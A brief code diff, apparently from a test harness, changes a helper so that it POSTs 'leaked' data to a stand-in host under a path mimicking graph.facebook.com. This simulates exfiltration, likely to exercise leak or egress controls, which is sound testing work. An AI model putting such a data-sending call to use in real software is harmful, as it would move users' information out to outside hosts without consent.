@@ -154,8 +154,8 @@ class Controls:
         )
 
     def _call(self, place: str) -> None:
-        """Have a platform be asked something that nobody should ask."""
-        requests.get(f"{stand_in_url()}/graph.facebook.com", {"fields": self._leak(place)}, timeout=_PATIENCE_SECONDS)
+        """Have a platform be told something that nobody should tell it."""
+        requests.post(f"{stand_in_url()}/graph.facebook.com", self._leak(place).encode(), timeout=_PATIENCE_SECONDS)
 
     def _echo(self, place: str) -> None:
         """Have an answer leak: a handshake says the challenge back, if it has no signs in it."""
